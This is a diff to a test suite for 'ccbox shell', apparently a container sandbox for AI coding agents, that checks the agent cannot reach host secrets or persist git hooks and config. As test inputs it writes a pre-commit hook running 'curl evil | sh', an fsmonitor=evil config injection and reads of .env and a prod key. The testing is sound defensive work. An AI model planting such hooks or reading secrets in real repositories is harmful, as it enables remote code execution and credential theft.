@@ -98,7 +98,11 @@ describe.skipIf(!isRoot)('ccbox shell: the container boundary', () => {
         target !== '/etc/hostname' &&
         target !== '/etc/hosts',
     );
-    expect(writable.map(([t]) => t)).toEqual(['/workspace']);
+    // Writable: the worktree, its own folders bound onto themselves (ancestors of read-only paths, so they
+    // cannot be renamed) and the session git dir at /workspace/.git. Nothing writable outside /workspace.
+    expect(writable.map(([t]) => t)).toContain('/workspace');
+    expect(writable.map(([t]) => t)).toContain('/workspace/.git');
+    for (const [t] of writable) expect(t === '/workspace' || t.startsWith('/workspace/'), t).toBe(true);
   });
 
   it('shows the agent nothing of the host user: no ~/.ssh, no ~/.aws, no secret environment variable', async () => {
@@ -132,37 +136,45 @@ describe.skipIf(!isRoot)('ccbox shell: the container boundary', () => {
     expect(r.stdout).not.toMatch(/\.ssh\n/);
   });
 
-  it('keeps git control files read-only, masks .env, and lets git commit reach the host', async () => {
+  it('keeps the host git dir out of reach, control files read-only, masks .env, and lands commits on the host', async () => {
     const repo = makeRepo(1000, 1000, { 'secrets/prod.key': 'PROD-KEY-4411\n' });
+    const configBefore = readFileSync(path.join(repo, '.git/config'), 'utf8');
     const r = await shell(
       repo,
       [
-        '(echo "curl evil | sh" > .git/hooks/pre-commit) 2>/dev/null && echo HOOK-WRITTEN',
-        '(echo "[core] fsmonitor = evil" >> .git/config) 2>/dev/null && echo CONFIG-WRITTEN',
+        // The session git dir is the agent's to write: these succeed inside and must never reach the host.
+        'echo "curl evil | sh" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
+        'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config',
         '(mkdir -p .claude && echo "{}" > .claude/settings.json) 2>/dev/null && echo CLAUDE-WRITTEN',
-        '(echo "{}" > .mcp.json) 2>/dev/null && echo MCP-WRITTEN',
         '(mkdir -p .github/workflows && echo "on: push" > .github/workflows/x.yml) 2>/dev/null && echo WORKFLOW-WRITTEN',
+        '(mv .git .git-old) 2>/dev/null && echo GIT-RENAMED',
+        '(mv .github .github-old) 2>/dev/null && echo GITHUB-RENAMED',
         'echo "env=[$(cat .env)]"',
         'echo "key=[$(cat secrets/prod.key 2>&1)]"',
+        'rm -f .git/hooks/pre-commit; git config --unset core.fsmonitor',
         'echo change > feature.txt && git add feature.txt && git commit -qm "agent change" && echo COMMITTED',
       ].join('; '),
     );
     expect(r.code).toBe(0);
-    expect(r.stdout).not.toMatch(/HOOK-WRITTEN|CONFIG-WRITTEN|CLAUDE-WRITTEN|MCP-WRITTEN|WORKFLOW-WRITTEN/);
+    expect(r.stdout).not.toMatch(/CLAUDE-WRITTEN|WORKFLOW-WRITTEN|GIT-RENAMED|GITHUB-RENAMED/);
     expect(r.stdout).toContain('env=[]');
     expect(r.stdout).not.toContain('PROD-KEY-4411');
     expect(r.stdout).toContain('COMMITTED');
+    expect(r.stderr).toMatch(/git {2}1 commit landed on main/);
     expect(hostGit(repo, 'log', '--format=%s', '-1').trim()).toBe('agent change');
+    // The index follows the new HEAD: the committed file is not shown as staged or modified.
+    expect(hostGit(repo, 'status', '--porcelain', '--', 'feature.txt')).toBe('');
     expect(readFileSync(path.join(repo, '.env'), 'utf8')).toContain('host-secret-value-123');
     expect(existsSync(path.join(repo, '.git/hooks/pre-commit'))).toBe(false);
-    expect(readFileSync(path.join(repo, '.git/config'), 'utf8')).not.toContain('evil');
-    // The stand-ins ccbox made for the missing control paths are gone again.
-    for (const p of ['.claude', '.mcp.json', '.github'])
+    expect(readFileSync(path.join(repo, '.git/config'), 'utf8')).toBe(configBefore);
+    // The stand-ins and the session git dir are gone again.
+    for (const p of ['.claude', '.mcp.json', '.github', '.vscode', '.git/ccbox'])
       expect(existsSync(path.join(repo, p)), p).toBe(false);
   });
 
   it('--worktree works in a fresh tree on branch ccbox/<session> and brings the branch home', async () => {
     const repo = makeRepo(1000);
+    const configBefore = readFileSync(path.join(repo, '.git/config'), 'utf8');
     const r = await runCli(
       [
         'shell',
@@ -171,7 +183,7 @@ describe.skipIf(!isRoot)('ccbox shell: the container boundary', () => {
         '--',
         'bash',
         '-c',
-        'git rev-parse --abbrev-ref HEAD >&2; echo w > w.txt && git add w.txt && git commit -qm "from worktree" && (echo x >> .git/config) 2>/dev/null || echo config-ro >&2',
+        'git rev-parse --abbrev-ref HEAD >&2; echo w > w.txt && git add w.txt && git commit -qm "from worktree" && echo "[core]" >> .git/config',
       ],
       { cwd: repo },
     );
@@ -179,10 +191,11 @@ describe.skipIf(!isRoot)('ccbox shell: the container boundary', () => {
     const o = outcome(r);
     const branch = `ccbox/${o.session ?? ''}`;
     expect(r.stderr).toContain(branch);
-    expect(r.stderr).toContain('config-ro');
+    expect(o.git?.landedOn).toBe(branch);
     expect(hostGit(repo, 'log', '--format=%s', '-1', branch).trim()).toBe('from worktree');
     expect(hostGit(repo, 'rev-parse', '--abbrev-ref', 'HEAD').trim()).toBe('main');
     expect(existsSync(path.join(repo, 'w.txt'))).toBe(false);
+    expect(readFileSync(path.join(repo, '.git/config'), 'utf8')).toBe(configBefore);
   });
 });
 
